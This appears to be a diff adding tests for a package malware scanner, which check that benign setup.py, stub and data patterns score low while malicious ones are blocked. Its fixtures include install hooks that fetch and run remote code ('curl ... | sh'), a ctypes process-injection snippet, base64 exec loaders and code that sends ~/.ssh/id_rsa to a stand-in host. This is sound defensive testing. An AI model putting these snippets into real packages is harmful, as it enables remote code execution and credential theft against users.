@@ -1,0 +1,127 @@
+"""Classes of benign behaviour stay low (issue 12, part 2), each from a small synthetic snippet,
+next to the malicious technique they must not hide."""
+
+from scans.engine import scan_archive
+
+from .conftest import make_tgz
+
+LOW = ("clean", "low")
+BLOCKING = ("high", "critical")
+SETUP_HEAD = "from setuptools import setup\n"
+
+
+def scan(files: dict, rules, name: str = "widgetry", eco: str = "pypi"):
+    return scan_archive(make_tgz(files, root=f"{name}-1.0/"), rules, filename=f"{name}-1.0.tar.gz", ecosystem=eco,
+                        package_name=name)
+
+
+# --- name similarity alone never reaches medium ------------------------------------------------
+
+def test_a_name_near_a_popular_one_alone_stays_low(rules):
+    files = {"setup.py": SETUP_HEAD + "setup(name='requestz', version='1.0')\n", "requestz/__init__.py": "VERSION = 1\n"}
+    result = scan(files, rules, name="requestz")
+    assert "eng_typosquat" in result.rule_ids()
+    assert result.verdict in LOW
+
+
+def test_a_name_near_a_popular_one_with_install_time_behaviour_is_blocked(rules):
+    setup = (SETUP_HEAD + "import os, urllib.request\n"
+             "data = urllib.request.urlopen('http://203.0.113.7/p').read()\nos.system(data.decode())\n"
+             "setup(name='requestz', version='1.0')\n")
+    result = scan({"setup.py": setup}, rules, name="requestz")
+    assert next(f for f in result.findings if f.rule_id == "eng_typosquat").points == 10
+    assert result.verdict in BLOCKING
+
+
+# --- install-time scope: what pip really runs ---------------------------------------------------
+
+BUILD_ONLY_OVERRIDES = SETUP_HEAD + (
+    "from setuptools.command.build import build\n"
+    "from setuptools.command.egg_info import egg_info\n\n"
+    "class Build(build):\n    def run(self):\n        self.copy_tree('queries', self.build_lib)\n        super().run()\n\n"
+    "class EggInfo(egg_info):\n    def find_sources(self):\n        super().find_sources()\n"
+    "        self.filelist.include('src/*.h')\n\n"
+    "class Verify(install):\n    def run(self):\n        pass\n\n"
+    "setup(name='widgetry', cmdclass={'build': Build, 'egg_info': EggInfo, 'verify': Verify})\n"
+)
+
+
+def test_overriding_build_egg_info_or_a_maintainer_command_alone_stays_low(rules):
+    result = scan({"setup.py": BUILD_ONLY_OVERRIDES.replace("class Verify(install)", "from setuptools.command.install "
+                                                            "import install\nclass Verify(install)")}, rules)
+    assert "sig_004" in result.rule_ids()
+    assert result.verdict in LOW
+
+
+def test_overriding_pips_install_command_still_weighs(rules):
+    setup = SETUP_HEAD + (
+        "from setuptools.command.install import install\n"
+        "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
+        "        __import__('os').system('curl -s http://203.0.113.7/x | sh')\n"
+        "setup(name='widgetry', cmdclass={'install': PostInstall})\n")
+    assert scan({"setup.py": setup}, rules).verdict in BLOCKING
+
+
+# --- prose and data are not behaviour ---------------------------------------------------------
+
+def test_install_instructions_in_pyproject_comments_stay_low(rules):
+    pyproject = ("[build-system]\nrequires = ['maturin']\n"
+                 "# Without Rust, install it first: curl --proto '=https' -sSf https://sh.rustup.rs | sh\n")
+    result = scan({"pyproject.toml": pyproject, "widgetry/__init__.py": ""}, rules)
+    assert result.verdict in LOW
+
+
+def test_type_stubs_declare_and_never_run(rules):
+    stub = "def VirtualAlloc(address: int, size: int, kind: int, protect: int) -> int: ...\n" \
+           "def CreateRemoteThread(handle: int) -> int: ...\ndef WriteProcessMemory(h: int) -> bool: ...\n"
+    result = scan({"win32-stubs/win32process.pyi": stub, "win32-stubs/__init__.pyi": ""}, rules)
+    assert result.verdict in LOW
+
+
+def test_the_same_calls_in_running_code_still_count(rules):
+    code = ("import ctypes\nk = ctypes.windll.kernel32\nbuf = k.VirtualAlloc(0, len(sc), 0x3000, 0x40)\n"
+            "k.RtlMoveMemory(buf, sc, len(sc))\nk.CreateRemoteThread(h, None, 0, buf, None, 0, None)\n")
+    assert scan({"widgetry/__init__.py": code}, rules).score >= 10
+
+
+def test_bundled_json_with_placeholder_keys_stays_low(rules):
+    example = ('{"examples": [{"AccessKeyId": "AKIAIOSFODNN7EXAMPLE", "SecretAccessKey": '
+               '"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "private_key": "-----BEGIN RSA PRIVATE KEY-----"}],'
+               '"rules": ["xmrig --donate-level", "discord.com/api/webhooks/1/abc"]}\n')
+    result = scan({"widgetry/data/iam-examples.json": example, "widgetry/__init__.py": ""}, rules)
+    assert result.verdict in LOW
+
+
+def test_directories_named_for_tests_weigh_as_tests_however_spelled(rules):
+    body = "import base64\nexec(base64.b64decode(PAYLOAD))\n"
+    shipped = scan({"widgetry/loader.py": body}, rules)
+    manual = scan({"manual tests/loader.py": body}, rules)
+    short = scan({"t/integration/loader.py": body}, rules)
+    assert manual.score < shipped.score and short.score < shipped.score
+    assert manual.verdict in LOW and short.verdict in LOW
+
+
+def test_a_package_named_example_is_still_shipped_code(rules):
+    body = "import base64\nexec(base64.b64decode(PAYLOAD))\n"
+    assert scan({"src/example_package/__init__.py": body}, rules).verdict in BLOCKING
+
+
+# --- a library using its own credential -------------------------------------------------------
+
+def test_an_sdk_sending_its_own_token_to_its_api_stays_low(rules):
+    client = ("import os, requests\n\nclass Client:\n    def __init__(self):\n"
+              "        self.token = os.environ.get('OPENAI_API_KEY')\n"
+              "    def complete(self, prompt):\n"
+              "        return requests.post('https://api.example.com/v1/complete', json={'prompt': prompt},\n"
+              "                             headers={'Authorization': 'Bearer ' + self.token}).json()\n")
+    result = scan({"widgetry/client.py": client, "widgetry/__init__.py": ""}, rules)
+    assert "eng_combo_cred_network" not in result.rule_ids()
+    assert result.verdict in LOW
+
+
+def test_reading_someone_elses_credentials_and_sending_them_still_combines(rules):
+    thief = ("import os, requests\n\ndef sync():\n"
+             "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+             "    requests.post('https://collector.example.net/k', data=key)\n")
+    result = scan({"widgetry/sync.py": thief, "widgetry/__init__.py": ""}, rules)
+    assert "eng_combo_cred_network" in result.rule_ids()
